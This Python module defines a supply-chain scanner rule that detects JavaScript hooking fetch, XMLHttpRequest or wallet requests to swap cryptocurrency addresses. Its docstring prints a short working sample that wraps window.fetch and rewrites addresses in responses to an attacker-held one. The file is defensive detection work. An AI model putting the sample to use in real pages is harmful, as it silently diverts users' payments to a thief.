"""What a page sends is changed, and addresses of wallets with it.

*What it does*

Looks for files that give another body to a function by which a page sends or a wallet is asked (`fetch`,
`XMLHttpRequest`, the `request` of a wallet), that hold a purse of addresses (three or more, or one beside a pattern
that finds addresses), and that change texts or parameters.

Tracing and test tools replace the same functions, and applications name the contracts that they talk to; neither does
both.

*Why it matters*

Whoever pays confirms what looks right and pays somebody else. The releases of `chalk` and `debug` of September 2025 did
this in every page that bundled them.

*Example*

    const purse = ["0x1111111111111111111111111111111111111111", "0x2222222222222222222222222222222222222222"];
    const seek = /0x[a-fA-F0-9]{40}/g;
    const plain = window.fetch;
    window.fetch = async (...all) => {
      const answer = await plain(...all);
      return new Response((await answer.text()).replace(seek, purse[0]));
    };
"""

from __future__ import annotations

from collections.abc import Iterator

from assay.detectors.source._flows import confidence, softened, when
from assay.detectors.source._traits import traits
from assay.javascript.hooks import ADDRESS_SWAP
from assay.model.finding import Evidence, Finding, finding
from assay.model.rule import Concern, Rule, Severity
from assay.model.subject import Subject

RULE = Rule(
    id="address-swapping",
    title="Changes the addresses of wallets in what a page sends",
    severity=Severity.HIGH,
    concern=Concern.MALICE,
    advice="Do not use it in any page. If it was used, look for payments to addresses that are in this file.",
    techniques=("T1185", "T1565.002", "T1657"),
)


def detect(subject: Subject) -> Iterator[Finding]:
    """One finding for each file that does so."""
    for file, trait in traits(subject, (ADDRESS_SWAP,)):
        yield finding(
            RULE,
            f"{file.path} of {subject.ref} changes what is sent and holds addresses of wallets, {when(file)}",
            Evidence(trait.detail, trait.location),
            severity=softened(file, RULE.severity),
            confidence=confidence(file),
        )
